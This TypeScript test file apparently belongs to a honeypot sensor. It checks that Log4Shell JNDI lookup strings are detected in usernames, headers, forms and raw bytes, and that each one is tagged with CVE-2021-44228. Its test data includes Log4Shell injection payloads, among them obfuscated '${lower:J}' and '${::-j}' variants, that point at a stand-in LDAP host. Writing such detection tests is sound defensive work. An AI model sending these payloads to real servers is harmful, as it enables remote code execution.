import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import { evidence } from '../../../src/events/bytes.ts'
import { jndiSightings } from '../../../src/sensor/jndi/watch.ts'
import { defineLure } from '../../../src/sensor/lure.ts'
import { play } from '../../harness.ts'

const LOOKUP = '${jndi:ldap://x.example/a}'

describe('lookups in events', () => {
  it.each([
    ['a user name', 'login', { username: LOOKUP }, 'username'],
    ['a header', 'any.request', { headers: [['X-Api-Version', LOOKUP]] }, 'header X-Api-Version'],
    ['the name of a header', 'any.request', { headers: [[LOOKUP, '1']] }, 'header name'],
    ['a form', 'any.request', { form: [['user', LOOKUP]] }, 'form user'],
    ['bytes that are no text', 'any.request', { body: evidence(Buffer.from(`\xff${LOOKUP}`, 'latin1')) }, 'body'],
  ])('are seen in %s', (_, type, data, where) => {
    expect(jndiSightings(type, data).map((s) => [s.where, s.lookup.host])).toEqual([[where, 'x.example']])
  })

  it('are not looked for in our own answers', () => {
    expect(jndiSightings('turn', { input: 'ls', output: LOOKUP })).toEqual([])
  })
})

it('any lure writes down a lookup once a visit, with the vulnerability and its target', async () => {
  const echo = defineLure({
    name: 'echo',
    standsFor: [],
    about: '',
    profiles: [],
    ports: [{ transport: 'tcp', port: 7 }],
    options: z.strictObject({}),
    events: { 'echo.line': z.object({ line: z.string() }) },
    async serve(visit) {
      for (let n = 0; n < 2; n++) visit.record('echo.line', { line: String(await visit.line(1000)) })
    },
  })
  const playing = await play(echo, { persona: 'plain', prompts: 'test/fixtures/prompts' })
  await playing.exchange(
    `a \${\${lower:J}ndi:ldap://x.example:1389/b}\n${LOOKUP.replace('x', '127.0.0.1#.x')} \${\${::-j}ndi:ldap://x.example:1389/b}\n`,
  )
  expect(playing.data('jndi.lookup').map(({ host, port, where }) => [where, host, port])).toEqual([
    ['line', 'x.example', 1389],
    ['line', '.x.example', undefined],
  ])
  expect(playing.data('indicator')[0]).toEqual({ kind: 'url', value: 'ldap://x.example:1389/b', how: 'jndi' })
  expect(playing.events.find((e) => e.type === 'echo.line')?.tags).toEqual(['cve:CVE-2021-44228', 'attack:T1190'])
  await playing.stop()
})
